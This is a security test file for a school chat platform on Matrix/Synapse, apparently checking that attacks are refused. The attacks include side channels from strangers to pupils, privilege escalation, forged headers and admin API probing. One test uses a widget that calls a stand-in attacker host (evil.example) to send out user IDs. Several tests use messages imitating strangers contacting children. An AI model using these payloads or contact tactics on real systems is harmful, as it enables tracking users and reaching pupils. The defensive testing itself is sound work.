"""Issue 8: rules hold for the whole life of a relationship, side channels to pupils are closed,
namespaces and privileges stay tight, and the deployment is safe on loopback.

Each test is one attack made as a real request to the real Synapse with Parta (or the
provisioning service), next to its legitimate twin. The world is a school of its own (the
generated two-class school of ``tests.schools``), so that role changes and removals made here
touch nobody of ``test_attacks.py``. docs/security.md lists every test (rows 78 on).
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass

import aiohttp
import pytest
from mautrix.api import Method

from policies.templates import RoomRef, default_templates

from spaces_provisioner.homeserver.user import RegistrationRefused
from spaces_provisioner.homeserver.user import register as matrix_register

from ..helpers import SCHOOL_B_APPLICATION, SCHOOL_B_ROSTER, User, api, eventually, q
from ..schools import attack_cast, write_attack_roster

pytestmark = pytest.mark.synapse
T = default_templates()
V = "/_matrix/client/v3"
_n = itertools.count(1)


@dataclass
class World:
    org: str
    org_b: str
    rooms: dict[str, str]
    admin: User
    head: User
    teacher: User        # the class teacher of 5А (confirmed)
    teacher2: User       # a subject teacher of 5А (confirmed)
    teacher_1a: User     # the primary teacher of 1А (confirmed)
    student: User        # 5А
    classmate: User      # 5А
    student3: User       # 5А, child of parent3
    pupil_1a: User       # 1А
    parent: User         # a parent of student
    parent3: User        # a parent of student3
    teacher_b: User
    outsider: User
    base: str            # the provisioning service


@pytest.fixture(scope="module")
async def w(hs, tmp_path_factory) -> World:
    c = attack_cast()
    a = await hs.new_school(roster=write_attack_roster(tmp_path_factory.mktemp("lifecycle-roster")))
    b = await hs.new_school(roster=SCHOOL_B_ROSTER, application=SCHOOL_B_APPLICATION)
    org = a["org"]
    acc = {x["role"]: x for x in a["approve"]["accounts"]}
    refs = {"space": RoomRef(org, "school_space"), "announcements": RoomRef(org, "announcements"),
            "class_chat": RoomRef(org, "class_chat", c.class_id),
            "class_announcements": RoomRef(org, "class_announcements", c.class_id)}
    rooms = {k: await hs.bot.resolve_alias(f"#{T.alias_localpart(r)}:{hs.server_name}") for k, r in refs.items()}
    return World(
        org=org, org_b=b["org"], rooms=rooms,
        admin=await hs.login(acc["admin"]["user_id"], acc["admin"]["password"]),
        head=await hs.login(acc["head"]["user_id"], acc["head"]["password"]),
        teacher=await hs.person(org, c.teacher, confirmed=True),
        teacher2=await hs.person(org, "teacher-003", confirmed=True),
        teacher_1a=await hs.person(org, c.unconfirmed, confirmed=True),
        student=await hs.person(org, c.student), classmate=await hs.person(org, c.classmate),
        student3=await hs.person(org, c.student3), pupil_1a=await hs.person(org, c.other_class),
        parent=await hs.person(org, c.parent), parent3=await hs.person(org, c.parent3),
        teacher_b=await hs.person(b["org"], "b-usr-001", confirmed=True), outsider=await hs.outsider(),
        base=hs.settings.provisioning_url,
    )


def ok(resp: tuple[int, dict], status: int = 200) -> dict:
    code, body = resp
    assert code == status, body
    return body


def cut_off(resp: tuple[int, dict]) -> None:
    """The person may no longer write: refused by Parta's module (while the reconcile runs) or, once the
    reconcile made them leave, by Synapse itself (not in the room)."""
    code, body = resp
    assert code == 403 and body.get("errcode") == "M_FORBIDDEN", body
    assert body.get("org.parta.reason") == "chat_no_longer_allowed" or "not in room" in body.get("error", ""), body


def refused(resp: tuple[int, dict], reason: str | None = None, *, status: int = 403,
            errcode: str = "M_FORBIDDEN") -> dict:
    """Assert a refusal: HTTP status, errcode and Parta's reason code (with a message)."""
    code, body = resp
    assert code == status, body
    assert body.get("errcode") == errcode, body
    if reason is not None:
        assert body.get("org.parta.reason") == reason, body
        assert body.get("error"), body
    return body


async def send(u: User, room: str, text: str = "hello", etype: str = "m.room.message", content: dict | None = None):
    body = content if content is not None else {"msgtype": "m.text", "body": text}
    return await u.attempt("PUT", f"{V}/rooms/{q(room)}/send/{q(etype)}/l{next(_n)}", body)


async def put_state(u: User, room: str, etype: str, key: str, content: dict):
    return await u.attempt("PUT", f"{V}/rooms/{q(room)}/state/{q(etype)}/{q(key)}", content)


async def dm(u: User, other: User) -> str:
    return ok(await u.attempt("POST", f"{V}/createRoom", {"preset": "trusted_private_chat", "is_direct": True,
                                                          "invite": [other.user_id]}))["room_id"]


async def group(u: User, *others: User, name: str = "Проект") -> str:
    return ok(await u.attempt("POST", f"{V}/createRoom", {"name": name, "invite": [o.user_id for o in others]}))[
        "room_id"]


async def join(u: User, room: str):
    return await u.attempt("POST", f"{V}/join/{q(room)}", {})


async def joined(u: User) -> set[str]:
    return set(ok(await u.attempt("GET", f"{V}/joined_rooms"))["joined_rooms"])


async def person(w: World, who: User, body: dict, by: User | None = None) -> tuple[int, dict]:
    """``PATCH /organizations/{org}/people/{user}`` as ``by`` (default: the administrator)."""
    return await api(by or w.admin, "PATCH", f"/organizations/{w.org}/people/{q(who.user_id)}", body, w.base)


# --- relationships end, chats end --------------------------------------------------------------------

async def test_teacher_no_longer_confirmed_keeps_a_pupils_direct_chat(w):
    room = await dm(w.student, w.teacher2)
    ok(await join(w.teacher2, room))
    ok(await send(w.teacher2, room, "Завтра контрольная"))
    ok(await person(w, w.teacher2, {"confirmed": False}))
    cut_off(await send(w.teacher2, room, "Напиши мне"))
    cut_off(await put_state(w.teacher2, room, "m.room.topic", "", {"topic": "Наш секрет"}))
    assert room not in await joined(w.teacher2)  # and no longer reads it: the reconcile made the teacher leave
    # the legitimate twin: confirmed again, the teacher is invited back and writes
    ok(await person(w, w.teacher2, {"confirmed": True}))
    ok(await w.student.attempt("POST", f"{V}/rooms/{q(room)}/invite", {"user_id": w.teacher2.user_id}))
    ok(await join(w.teacher2, room))
    ok(await send(w.teacher2, room, "Снова на связи"))


async def test_teacher_removed_from_one_school_keeps_chats_there(w, hs):
    teacher = await hs.person(w.org, "teacher-004", confirmed=True)
    room = await dm(w.student3, teacher)
    ok(await join(teacher, room))
    # the same account also teaches in school B (a staff link of school B, redeemed)
    link = await hs.api.create_link(w.org_b, {"role": "teacher"})
    ok(await api(teacher, "POST", f"/links/{link['code']}/redeem", {}, w.base))
    await hs.api.update_person(w.org_b, teacher.user_id, {"confirmed": True})
    ok(await api(w.admin, "DELETE", f"/organizations/{w.org}/people/{q(teacher.user_id)}", None, w.base))
    cut_off(await send(teacher, room, "Я всё ещё здесь"))
    assert room not in await joined(teacher)
    # the twin: in the school that keeps the teacher, the teacher writes to a colleague
    colleague_room = await dm(teacher, w.teacher_b)
    ok(await join(w.teacher_b, colleague_room))
    ok(await send(teacher, colleague_room, "Коллега, добрый день"))


async def test_removed_parent_keeps_the_childs_chat(w, hs):
    parent = await hs.person(w.org, "guardian-0014")     # a parent of pupil-0010
    child = await hs.person(w.org, "pupil-0010")
    room = await dm(child, parent)
    ok(await join(parent, room))
    ok(await api(w.admin, "DELETE", f"/organizations/{w.org}/people/{q(parent.user_id)}", None, w.base))
    code, body = await send(parent, room, "Ты где?")
    assert code == 403 and body["errcode"] in ("M_FORBIDDEN", "M_USER_SUSPENDED"), body
    assert room not in await joined(parent)  # left before the account was suspended
    # the twin: another family's parent writes to own child
    own = await dm(w.student3, w.parent3)
    ok(await join(w.parent3, own))
    ok(await send(w.parent3, own, "Я у школы"))


async def test_pupil_moved_to_another_class_keeps_the_teachers_group_chat(w, hs):
    pupil = await hs.person(w.org, "pupil-0011")
    room = await group(w.teacher, pupil, w.classmate, name="5А: проект")
    ok(await join(pupil, room))
    ok(await join(w.classmate, room))
    ok(await person(w, pupil, {"classes": ["class-01a"]}))   # moved to 1А, whose teachers do not include 5А's
    cut_off(await send(pupil, room, "Я ещё тут"))
    assert room not in await joined(pupil)
    ok(await send(w.classmate, room, "А мы остались"))       # the twin: the class stays in its chat


async def test_removed_from_group_chat_comes_back_by_own_link(w, hs):
    teacher5 = await hs.person(w.org, "teacher-005", confirmed=True)
    room = await group(w.teacher, teacher5, name="Методсовет 5А")
    ok(await join(teacher5, room))
    own_link = ok(await api(teacher5, "POST", f"/organizations/{w.org}/links", {"rooms": [room]}, w.base), 201)
    ok(await w.teacher.attempt("POST", f"{V}/rooms/{q(room)}/kick", {"user_id": teacher5.user_id}))
    refused(await api(teacher5, "POST", f"/links/{own_link['code']}/redeem", {}, w.base), "removed_from_chat")
    refused(await api(w.teacher2, "POST", f"/links/{own_link['code']}/redeem", {}, w.base), "link_creator_left")
    # the twin: the chat's creator's link brings a colleague in
    link = ok(await api(w.teacher, "POST", f"/organizations/{w.org}/links", {"rooms": [room]}, w.base), 201)
    ok(await api(w.teacher2, "POST", f"/links/{link['code']}/redeem", {}, w.base))
    assert room in await joined(w.teacher2)


# --- side channels to pupils --------------------------------------------------------------------------

async def to_device(sender: User, recipient: User, etype: str = "m.key.verification.request"):
    content = {"from_device": "ATTACK", "methods": ["m.sas.v1"], "transaction_id": f"t{next(_n)}",
               "timestamp": 0, "note": "Это я, твой друг"}
    return await sender.attempt("PUT", f"{V}/sendToDevice/{q(etype)}/d{next(_n)}",
                                {"messages": {recipient.user_id: {"*": content}}})


async def sync_token(u: User) -> str:
    return ok(await u.attempt("GET", f"{V}/sync", query={"timeout": "0"}))["next_batch"]


async def to_device_senders(recipient: User, since: str) -> list[str]:
    """Senders of the to-device messages the recipient's device receives after ``since``."""
    body = ok(await recipient.attempt("GET", f"{V}/sync", query={"timeout": "3000", "since": since}))
    return [e.get("sender") for e in body.get("to_device", {}).get("events", [])]


@pytest.mark.parametrize("who", ["outsider", "teacher_b", "parent3", "pupil_1a"])
async def test_to_device_message_to_a_pupil(w, who):
    sender = getattr(w, who)
    since = await sync_token(w.student)
    refused(await to_device(sender, w.student), None)
    # the twin: the pupil's own teacher's verification request arrives, and only it
    ok(await to_device(w.teacher, w.student))
    senders = await eventually(lambda: to_device_senders(w.student, since))
    assert w.teacher.user_id in senders and sender.user_id not in senders, senders


async def test_presence_status_message_to_a_pupil(w):
    code, _ = await w.parent3.attempt("PUT", f"{V}/presence/{q(w.parent3.user_id)}/status",
                                      {"presence": "online", "status_msg": "Напиши мне в личку, Рома"})
    code, body = await w.student.attempt("GET", f"{V}/presence/{q(w.parent3.user_id)}/status")
    assert "status_msg" not in body or not body["status_msg"], body  # presence is off: no status text anywhere
    # the twin: the pupil still sees who the parent is (the server-set name)
    profile = ok(await w.student.attempt("GET", f"{V}/profile/{q(w.teacher.user_id)}"))
    assert profile["displayname"]


async def test_leave_reason_in_a_read_only_room(w, hs):
    ok(await w.student.attempt("POST", f"{V}/rooms/{q(w.rooms['announcements'])}/leave",
                               {"reason": "Пишите мне: ответы к контрольной, недорого"}))
    event = await hs.bot.request(Method.GET, f"{V}/rooms/{q(w.rooms['announcements'])}/state/m.room.member/"
                                 f"{q(w.student.user_id)}")
    assert event.get("membership") == "leave" and "reason" not in event, event
    ok(await join(w.student, w.rooms["announcements"]))
    # the twin: where the pupil may write, a reason stays
    ok(await w.student.attempt("POST", f"{V}/rooms/{q(w.rooms['class_chat'])}/leave", {"reason": "ушёл на урок"}))
    event = await hs.bot.request(Method.GET, f"{V}/rooms/{q(w.rooms['class_chat'])}/state/m.room.member/"
                                 f"{q(w.student.user_id)}")
    assert event.get("reason") == "ушёл на урок", event
    ok(await join(w.student, w.rooms["class_chat"]))


@pytest.mark.parametrize("who,room", [("student", "announcements"), ("parent", "class_announcements")])
async def test_reaction_key_used_as_text(w, who, room):
    post = ok(await send(w.admin if room == "announcements" else w.teacher, w.rooms[room], "Собрание в пятницу"))
    reactor = getattr(w, who)

    def reaction(key: str) -> dict:
        return {"m.relates_to": {"rel_type": "m.annotation", "event_id": post["event_id"], "key": key}}

    refused(await send(reactor, w.rooms[room], etype="m.reaction",
                       content=reaction("Кто хочет ответы — пишите @anon")), "reaction_not_emoji")
    ok(await send(reactor, w.rooms[room], etype="m.reaction", content=reaction("👍")))


@pytest.mark.parametrize("where", ["group_chat", "class_chat", "at_creation"])
async def test_widget_added_to_a_room(w, where):
    widget = {"type": "m.custom", "url": "https://evil.example/spy?u=$matrix_user_id", "name": "Домашка"}
    if where == "at_creation":
        refused(await w.teacher.attempt("POST", f"{V}/createRoom", {"name": "С виджетом", "initial_state": [
            {"type": "im.vector.modular.widgets", "state_key": "w1", "content": widget}]}), "bot_only_state")
        ok(await w.teacher.attempt("POST", f"{V}/createRoom", {"name": "Без виджета"}))
        return
    room = await group(w.teacher, w.classmate) if where == "group_chat" else w.rooms["class_chat"]
    refused(await put_state(w.teacher, room, "im.vector.modular.widgets", "w1", widget), "bot_only_state")
    ok(await put_state(w.teacher, room, "m.room.topic", "", {"topic": "Домашнее задание — в сообщениях"}))


@pytest.mark.parametrize("where", ["class_chat", "direct_chat"])
async def test_encrypted_event_in_an_unencrypted_room(w, where):
    room = w.rooms["class_chat"] if where == "class_chat" else await dm(w.student, w.teacher)
    ciphertext = {"algorithm": "m.megolm.v1.aes-sha2", "ciphertext": "AwgAEn...", "device_id": "ATTACK",
                  "sender_key": "abc", "session_id": "def"}
    refused(await send(w.student, room, etype="m.room.encrypted", content=ciphertext), "encryption_off")
    ok(await send(w.student, room, "Здравствуйте"))


# --- namespaces -----------------------------------------------------------------------------------------

async def test_school_address_claimed_before_approval(w, hs):
    slug = f"future-{next(_n)}"
    squat = ok(await w.outsider.attempt("POST", f"{V}/createRoom", {"name": "Учительская"}))["room_id"]
    refused(await w.outsider.attempt("PUT", f"{V}/directory/room/{q(f'#{slug}.staff:{hs.server_name}')}",
                                     {"room_id": squat}), "no_aliases")
    # an address claimed before people were refused aliases (made here by the bot for the test)
    await hs.bot.request(Method.PUT, f"{V}/directory/room/{q(f'#{slug}.staff:{hs.server_name}')}", {"room_id": squat})
    school = await hs.new_school(slug=slug)
    staff = await hs.bot.resolve_alias(f"#{slug}.staff:{hs.server_name}")
    assert staff != squat  # approval does not adopt the squatter's room
    events = await hs.bot.room_events_as_admin(staff)
    assert any(e["type"] == "m.room.create" and e["sender"] == hs.bot.user_id for e in events)
    assert school["space_id"]


# --- privileges ------------------------------------------------------------------------------------------

async def test_head_makes_themselves_administrator(w):
    refused(await person(w, w.head, {"role": "admin"}, by=w.head), "not_own_record")
    refused(await person(w, w.teacher_1a, {"role": "admin"}, by=w.head), "admin_by_admin_only")
    refused(await api(w.head, "DELETE", f"/organizations/{w.org}/people/{q(w.admin.user_id)}", None, w.base),
            "admin_by_admin_only")
    refused(await person(w, w.admin, {"confirmed": False}, by=w.admin), "not_own_record")
    # the twin: the head confirms a teacher, and the administrator may change roles
    ok(await person(w, w.teacher_1a, {"confirmed": True}, by=w.head))


async def test_head_issues_an_administrator_link(w):
    refused(await api(w.head, "POST", f"/organizations/{w.org}/links", {"role": "admin"}, w.base),
            "admin_by_admin_only")
    ok(await api(w.head, "POST", f"/organizations/{w.org}/links", {"role": "teacher"}, w.base), 201)
    ok(await api(w.admin, "POST", f"/organizations/{w.org}/links", {"role": "admin", "uses_allowed": 1}, w.base),
       201)


async def test_pupil_enrols_in_another_class_by_its_link(w):
    other = ok(await api(w.teacher_1a, "POST", f"/organizations/{w.org}/links",
                         {"role": "student", "class_id": "class-01a"}, w.base), 201)
    refused(await api(w.student3, "POST", f"/links/{other['code']}/redeem", {}, w.base), "class_change_by_school")
    own = ok(await api(w.teacher, "POST", f"/organizations/{w.org}/links",
                       {"role": "student", "class_id": attack_cast().class_id}, w.base), 201)
    assert ok(await api(w.student3, "POST", f"/links/{own['code']}/redeem", {}, w.base))["changes"] == 0


# --- robustness ------------------------------------------------------------------------------------------

async def test_ban_in_a_class_chat_and_the_reconcile(w, hs):
    ok(await w.teacher.attempt("POST", f"{V}/rooms/{q(w.rooms['class_chat'])}/ban",
                               {"user_id": w.classmate.user_id, "reason": "спам"}))
    result = await hs.api.call("POST", f"/organizations/{w.org}/reconcile")
    assert result["changes"] >= 0  # a 200: the ban no longer breaks every reconcile (it was a 502)
    assert w.rooms["class_chat"] not in await joined(w.classmate)  # the school's ban stands
    # the twin: the reconcile still places people (a newcomer of the class joins the class chat)
    newcomer = await hs.person(w.org, "pupil-0010")
    assert w.rooms["class_chat"] in await joined(newcomer)
    ok(await w.teacher.attempt("POST", f"{V}/rooms/{q(w.rooms['class_chat'])}/unban", {"user_id": w.classmate.user_id}))


async def test_expired_call_membership_is_no_running_call(w):
    etype = "org.matrix.msc3401.call.member"
    base = {"application": "m.call", "call_id": "", "scope": "m.room", "device_id": "DEV", "foci_preferred": [],
            "expires": 3_600_000}
    ok(await put_state(w.teacher, w.rooms["class_chat"], etype, f"_{w.teacher.user_id}_OLD",
                       {**base, "created_ts": 1_000, "expires": 3_600_000}))  # a lesson of 1970
    refused(await put_state(w.student, w.rooms["class_chat"], etype, f"_{w.student.user_id}_DEV", base),
            "may_not_start_call")
    ok(await put_state(w.teacher, w.rooms["class_chat"], etype, f"_{w.teacher.user_id}_NOW", base))
    ok(await put_state(w.student, w.rooms["class_chat"], etype, f"_{w.student.user_id}_DEV", base))
    for key in (f"_{w.teacher.user_id}_OLD", f"_{w.teacher.user_id}_NOW", f"_{w.student.user_id}_DEV"):
        who = w.student if w.student.user_id in key else w.teacher
        ok(await put_state(who, w.rooms["class_chat"], etype, key, {}))


# --- legitimate actions -----------------------------------------------------------------------------------

async def test_pupil_takes_back_own_reaction_in_a_read_only_room(w):
    post = ok(await send(w.admin, w.rooms["announcements"], "Каникулы с понедельника"))
    reaction = ok(await send(w.student, w.rooms["announcements"], etype="m.reaction", content={
        "m.relates_to": {"rel_type": "m.annotation", "event_id": post["event_id"], "key": "🎉"}}))
    code, body = await w.student.attempt("PUT", f"{V}/rooms/{q(w.rooms['announcements'])}/redact/"
                                         f"{q(post['event_id'])}/r{next(_n)}", {"reason": "удалить"})
    assert code == 403 and body["errcode"] == "M_FORBIDDEN", body  # not someone else's post
    ok(await w.student.attempt("PUT", f"{V}/rooms/{q(w.rooms['announcements'])}/redact/"
                               f"{q(reaction['event_id'])}/r{next(_n)}", {}))


# --- deployment -------------------------------------------------------------------------------------------

async def test_forged_x_forwarded_for(w, hs):
    async with aiohttp.ClientSession() as s:
        async with s.get(f"{hs.url}{V}/account/whoami", headers={
                "Authorization": f"Bearer {w.student.token}", "X-Forwarded-For": "203.0.113.77"}) as r:
            assert r.status == 200
    whois = await hs.bot.request(Method.GET, f"/_synapse/admin/v1/whois/{q(w.student.user_id)}")
    ips = {c["ip"] for d in whois["devices"].values() for s in d["sessions"] for c in s["connections"]}
    assert "203.0.113.77" not in ips and ips, ips  # the rate limits count the real address


@pytest.mark.parametrize("path", ["/_synapse/admin/v1/server_version", "/_synapse/admin/v1/register",
                                  "/_synapse/admin/v1/whois/@parta:school.test",
                                  "/_synapse/admin/v2/users"])
async def test_admin_api_on_the_public_listener(w, hs, path):
    async with aiohttp.ClientSession() as s:
        async with s.get(hs.url + path, headers={"Authorization": f"Bearer {w.admin.token}"}) as r:
            body = await r.json(content_type=None)
            assert r.status == 404 and body["errcode"] == "M_UNRECOGNIZED", body
    # the twin: the bot reaches it on its own socket
    assert "server_version" in await hs.bot.request(Method.GET, "/_synapse/admin/v1/server_version")


async def test_anonymous_registration_notice(w, hs):
    async with aiohttp.ClientSession() as s:
        for headers in ({}, {"Authorization": "Bearer guessed"}):
            async with s.post(f"{w.base}/api/v1/registrations/nudge", json={"user_id": w.student.user_id},
                              headers=headers) as r:
                body = await r.json()
                assert r.status == 401 and body["errcode"] == "M_UNKNOWN_TOKEN", body
                assert w.org not in str(body)
        async with s.post(f"{w.base}/api/v1/registrations/nudge", json={"user_id": w.student.user_id},
                          headers={"Authorization": f"Bearer {hs.settings.nudge_secret}"}) as r:
            assert r.status == 202 and await r.json() == {}   # the module's own notice; it tells nothing


@pytest.mark.parametrize("username,reason", [("teacher.ivanov", "role_word"), ("admin.petrov", "role_word"),
                                             ("roman_zaytsev", "login_lookalike"),
                                             ("ivan89161234567", "login_contact")])
async def test_login_name_through_a_matrix_client(w, hs, username, reason):
    link = ok(await api(w.teacher, "POST", f"/organizations/{w.org}/links",
                        {"role": "student", "class_id": attack_cast().class_id}, w.base), 201)
    async with aiohttp.ClientSession() as s:
        async with s.get(f"{hs.url}{V}/register/available", params={"username": username}) as r:
            body = await r.json()
            assert r.status == 400 and body["errcode"] == "M_INVALID_USERNAME", body
            assert body["org.parta.reason"] == reason, body
    with pytest.raises(RegistrationRefused):
        await matrix_register(hs.url, link["code"], username, "correct horse battery staple 42")
    # the twin: a plain login name is free and registers
    free = f"vasya.pupkin{next(_n)}"
    async with aiohttp.ClientSession() as s:
        async with s.get(f"{hs.url}{V}/register/available", params={"username": free}) as r:
            assert r.status == 200, await r.text()


# --- the third attacker's round (docs/security.md rows 100 on) ---------------------------------------------

async def test_member_events_in_create_rooms_initial_state(w):
    """Synapse writes initial_state past every invite check: a member event there would invite a pupil
    (and name the stranger as a confirmed teacher)."""
    fake_teacher = {"type": "m.room.member", "state_key": w.outsider.user_id,
                    "content": {"membership": "join", "displayname": "Боровая Инна Алексеевна ✓"}}
    invite_pupil = {"type": "m.room.member", "state_key": w.student.user_id, "content": {"membership": "invite"}}
    for state in ([fake_teacher, invite_pupil], [invite_pupil],
                  [{"type": "m.room.third_party_invite", "state_key": "x", "content": {"display_name": "x"}}]):
        refused(await w.outsider.attempt("POST", f"{V}/createRoom", {"preset": "private_chat",
                                                                     "initial_state": state}),
                "initial_state_not_allowed")
    # a parent's direct chat with the own child cannot carry another family's child along
    refused(await w.parent.attempt("POST", f"{V}/createRoom", {
        "preset": "trusted_private_chat", "is_direct": True, "invite": [w.student.user_id],
        "initial_state": [{"type": "m.room.member", "state_key": w.classmate.user_id,
                           "content": {"membership": "invite"}}]}), "initial_state_not_allowed")
    # the twin: the state Element sends with a new direct chat is fine
    room = ok(await w.parent.attempt("POST", f"{V}/createRoom", {
        "preset": "trusted_private_chat", "is_direct": True, "invite": [w.student.user_id],
        "initial_state": [{"type": "m.room.history_visibility", "state_key": "",
                           "content": {"history_visibility": "shared"}},
                          {"type": "m.room.guest_access", "state_key": "", "content": {"guest_access": "forbidden"}}]}))
    ok(await join(w.student, room["room_id"]))


async def test_invitation_outlives_the_relationship(w, hs):
    teacher = await hs.person(w.org, "teacher-006", confirmed=True)
    pupil = await hs.person(w.org, "pupil-0010")
    room = await dm(teacher, pupil)                      # invited, not joined yet
    ok(await person(w, teacher, {"confirmed": False}))
    await send(teacher, room, "Пока ты не зашла")        # whatever the module says, the pupil must not read it
    refused(await join(pupil, room), "chat_not_allowed")
    # the twin: a confirmed teacher of the class is joined as usual
    other = await dm(w.teacher, pupil)
    ok(await join(pupil, other))


async def test_removed_pupil_comes_back_by_a_class_link(w, hs):
    pupil = await hs.person(w.org, "pupil-0002")        # 1А
    link = ok(await api(w.teacher_1a, "POST", f"/organizations/{w.org}/links",
                        {"role": "student", "class_id": "class-01a", "uses_allowed": 30}, w.base), 201)
    ok(await api(w.admin, "DELETE", f"/organizations/{w.org}/people/{q(pupil.user_id)}", None, w.base))
    for _ in range(2):                                   # a second try is refused the same way, never a 500
        refused(await api(pupil, "POST", f"/links/{link['code']}/redeem", {}, w.base), "removed_by_school")
    people = {p["user_id"]: p for p in (await hs.api.people(w.org))["people"]}
    assert people[pupil.user_id]["status"] == "removed"
    # the twin: a newcomer joins 1А with the same link
    newcomer = await hs.outsider("Новичок")
    ok(await api(newcomer, "POST", f"/links/{link['code']}/redeem", {}, w.base))


async def test_teacher_takes_a_class_by_a_teacher_link(w, hs):
    link = ok(await api(w.head, "POST", f"/organizations/{w.org}/links",
                        {"role": "teacher", "class_id": "class-01a", "uses_allowed": 1}, w.base), 201)
    refused(await api(w.teacher2, "POST", f"/links/{link['code']}/redeem", {}, w.base), "already_staff")
    people = {p["user_id"]: p for p in (await hs.api.people(w.org))["people"]}
    assert "class-01a" not in people[w.teacher2.user_id]["classes"]
    # the twin: the link is still there for the newcomer it was made for
    newcomer = await hs.outsider("Учитель")
    ok(await api(newcomer, "POST", f"/links/{link['code']}/redeem", {}, w.base))


@pytest.mark.parametrize("etype,content", [
    ("m.poll.start", {"m.poll": {"question": {"m.text": "Напиши мне в Telegram"}, "answers": []}}),
    ("org.matrix.msc3381.poll.start", {"org.matrix.msc3381.poll.start": {"question": {"body": "Пиши мне"}}}),
])
async def test_poll_in_the_school_space(w, etype, content):
    refused(await send(w.parent, w.rooms["space"], etype=etype, content=content), None)
    refused(await send(w.student, w.rooms["space"], etype=etype, content=content), None)
    # the twin: polls are for rooms; a pupil starts one in the class chat
    ok(await send(w.student, w.rooms["class_chat"], etype=etype, content=content))


async def test_reaction_text_in_the_school_space(w):
    in_space = ok(await w.parent.attempt("GET", f"{V}/rooms/{q(w.rooms['space'])}/messages",
                                         query={"dir": "b", "limit": "1"}))["chunk"][0]["event_id"]
    reaction = {"m.relates_to": {"rel_type": "m.annotation", "event_id": in_space, "key": "Пиши: t.me/stranger"}}
    refused(await send(w.parent, w.rooms["space"], etype="m.reaction", content=reaction), None)
    reaction["m.relates_to"]["key"] = "👍"
    refused(await send(w.parent, w.rooms["space"], etype="m.reaction", content=reaction), None)
    # the twin: an emoji under an announcement, in the announcements room
    target = ok(await send(w.admin, w.rooms["announcements"], "Собрание в пятницу"))["event_id"]
    reaction["m.relates_to"]["event_id"] = target
    ok(await send(w.parent, w.rooms["announcements"], etype="m.reaction", content=reaction))


@pytest.mark.parametrize("field", ["avatar_url", "org.example.contact"])
async def test_profile_picture_or_field_set_by_a_person(w, field):
    """A picture, or a custom profile field (extended profiles), is free content every pupil sees."""
    refused(await w.parent.attempt("PUT", f"{V}/profile/{q(w.parent.user_id)}/{q(field)}",
                                   {field: "mxc://example.org/telegram-qr"}), "profile_set_by_school")
    # the twin: reading one's own profile (the name set by the school) still works
    assert ok(await w.parent.attempt("GET", f"{V}/profile/{q(w.parent.user_id)}")).get("displayname")


async def test_staff_elsewhere_invites_in_the_childs_school(w, hs):
    # a teacher of school B who is also a pupil's ... student of school A (a second account life)
    teacher_link = await hs.api.create_link(w.org_b, {"role": "teacher"})
    dual = await hs.outsider("Двойной")
    ok(await api(dual, "POST", f"/links/{teacher_link['code']}/redeem", {}, w.base))
    await hs.api.update_person(w.org_b, dual.user_id, {"confirmed": True})
    student_link = ok(await api(w.teacher, "POST", f"/organizations/{w.org}/links",
                                {"role": "student", "class_id": attack_cast().class_id}, w.base), 201)
    ok(await api(dual, "POST", f"/links/{student_link['code']}/redeem", {}, w.base))
    refused(await dual.attempt("POST", f"{V}/createRoom", {"name": "Тайный клуб", "invite": [w.classmate.user_id]}),
            "may_not_invite")
    # the twin: a teacher of school A invites the same pupil
    ok(await join(w.classmate, await group(w.teacher, w.classmate, name="Кружок")))


async def test_head_brings_back_a_removed_administrator(w, hs):
    second = await hs.person(w.org, "guardian-0005")
    ok(await person(w, second, {"role": "admin"}))                       # the administrator makes a colleague
    ok(await api(w.admin, "DELETE", f"/organizations/{w.org}/people/{q(second.user_id)}", None, w.base))
    ok(await person(w, second, {}, by=w.head))                           # a no-op PATCH brings nobody back
    refused(await person(w, second, {"status": "active"}, by=w.head), "admin_by_admin_only")
    people = {p["user_id"]: p for p in (await hs.api.people(w.org))["people"]}
    assert people[second.user_id]["status"] == "removed"
    # the twin: the administrator brings the colleague back, on purpose
    ok(await person(w, second, {"status": "active"}))
    people = {p["user_id"]: p for p in (await hs.api.people(w.org))["people"]}
    assert people[second.user_id]["status"] == "active"


async def test_old_personal_code_after_the_account_was_made(w, hs):
    codes = {c["person_id"]: c["code"] for c in (await hs.api.personal_codes(w.org, None))["codes"]}
    await hs.person(w.org, "guardian-0016")                              # an account made another way
    with pytest.raises(RegistrationRefused):
        await matrix_register(hs.url, codes["guardian-0016"], f"fake.parent{next(_n)}", "correct horse battery 42")
    people = {p["person_id"]: p for p in (await hs.api.people(w.org))["people"]}
    assert not people["guardian-0016"]["user_id"].startswith("@fake.parent")
    # the twin: the other parent's code registers its own account
    user_id = await matrix_register(hs.url, codes["guardian-0017"], f"real.parent{next(_n)}", "correct horse 42 x")
    assert user_id.startswith("@real.parent")
